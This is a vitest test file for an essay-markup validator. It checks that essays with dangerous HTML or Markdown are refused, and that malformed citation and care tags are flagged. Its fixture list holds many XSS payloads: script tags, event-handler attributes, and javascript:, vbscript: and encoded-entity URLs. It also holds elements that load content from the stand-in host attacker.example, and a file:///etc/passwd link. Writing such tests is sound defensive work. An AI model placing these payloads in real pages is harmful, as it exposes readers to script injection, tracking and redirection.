import { describe, expect, test } from 'vitest';
import { brokenMarks, essayMarkup } from './essay-markup.ts';

const sources = [{ url: 'https://journal.example.org/1' }];
const said = (body: string) => [...essayMarkup(body, sources), ...brokenMarks(body)];

/** Markup of every kind that could run, load, send or move something, or that only looks harmless. */
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script src="https://attacker.example/x.js"></script>',
  '<script type="module">alert(1)</script>',
  '<script\n>alert(1)</script>',
  'words <script>alert(1)</script> words',
  '- a list\n- <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | c |',
  '## <script>alert(1)</script>',
  '*<script>alert(1)</script>*',
  '[words <script>alert(1)</script>](/stack)',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example">',
  '<base href="https://attacker.example/">',
  '<iframe src="https://attacker.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://attacker.example"></object>',
  '<embed src="https://attacker.example">',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<img src="x" onerror="alert(1)">',
  '<img src="https://attacker.example/pixel.png" alt="">',
  '<p onclick="alert(1)">words</p>',
  '<a href="javascript:alert(1)">words</a>',
  '<a href="/stack" ping="https://attacker.example">words</a>',
  '<a href="https://shop.example.org/?tag=example-20">words</a>',
  '<form action="https://attacker.example"><input name="a"></form>',
  '<details ontoggle="alert(1)" open>words</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src="x"></noscript>',
  '<video src="https://attacker.example/x.mp4"></video>',
  '<audio src="https://attacker.example/x.mp3" autoplay></audio>',
  '<portal src="https://attacker.example"></portal>',
  '<astro-island component-url="https://attacker.example/x.js"></astro-island>',
  '<x-any onfocus="alert(1)" autofocus tabindex="0">words</x-any>',
  '<div style="position: fixed; inset: 0">words</div>',
  '<b>words</b>',
  '<br>',
  '</main>',
  '<!-- a note -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[ words ]]>',
  '<?php words ?>',
  '<!DOCTYPE html>',
  '![a picture](https://attacker.example/pixel.png)',
  '![a picture](/favicon.svg)',
  '![a picture](data:image/svg+xml;base64,PHN2Zz4=)',
  '![a picture][p]\n\n[p]: /favicon.svg',
  '[words](javascript:alert(1))',
  '[words](JaVaScRiPt:alert(1))',
  '[words](<java&#10;script:alert(1)>)',
  '[words](&#106;avascript:alert(1))',
  '[words](vbscript:msgbox(1))',
  '[words](data:text/html,<script>alert(1)</script>)',
  '[words](file:///etc/passwd)',
  '[words](blob:https://attacker.example/1)',
  '[words](http://attacker.example)',
  '[words](HTTP://attacker.example)',
  '[words](//attacker.example)',
  '[words](/\\attacker.example)',
  '[words](https://attacker.example)',
  '[words](https://journal.example.org/2)',
  '[words](https://shop.example.org/?tag=example-20)',
  '[words](https://www.amazon.com/s?k=magnesium)',
  '[words](sms:741741)',
  '[words](ftp://attacker.example)',
  '[words](stack)',
  '[words][r]\n\n[r]: javascript:alert(1)',
  '[words][r]\n\n[r]: https://attacker.example',
  '<https://attacker.example>',
  '<javascript:alert(1)>',
  'https://attacker.example',
  'www.attacker.example',
  '[words](tel:javascript:alert(1))',
  '[911](tel:911)',
  '<mailto:a@b.example?bcc=c@d.example>',
];

const brokenCitations = [
  'Words.[@ an-id]',
  'Words.[@An-Id]',
  'Words.[@an-id, @other-id]',
  'Words.[@an-id; other-id]',
  'Words.[@an-id',
  'Words.[@]',
  'Words.[@an_id]',
  'Words.[ @an-id]',
  'Words.[@an-id;]',
  '[care: alcohol]',
  '[care:Alcohol]',
  '[Care:alcohol]',
  '[care:]',
  '[care :alcohol]',
];

describe('G8 nothing in an essay runs, loads or sends anything', () => {
  test.each(hostile)('%s is refused, with its line', (markup) => {
    const problems = said(`A sentence.\n\n${markup}\n`);
    expect(problems.length).toBeGreaterThan(0);
    for (const { line } of problems) expect(line).toBeGreaterThanOrEqual(3);
  });

  test.each([
    '[the stack](/stack), [below](#more), [a state](/choose-clarity?auto=red)',
    '[us](mailto:help@example.org)',
    '[a source](https://journal.example.org/1)',
    'Words.[@an-id] More.[@an-id; @other-id]\n\n[care:alcohol]\n\n[tomorrow]',
    'Two is < three, and A&B stay as they are. 5 * 3 = 15.',
    '| a | b |\n|---|---|\n| c | d |\n\n1. One\n2. Two\n\n> A quotation\n\n**bold** and *italics*',
  ])('%s passes', (body) => {
    expect(said(body)).toEqual([]);
  });
});

test.each(brokenCitations)('%s is refused: nobody would find what it means', (body) => {
  expect(brokenMarks(body)).toHaveLength(1);
});
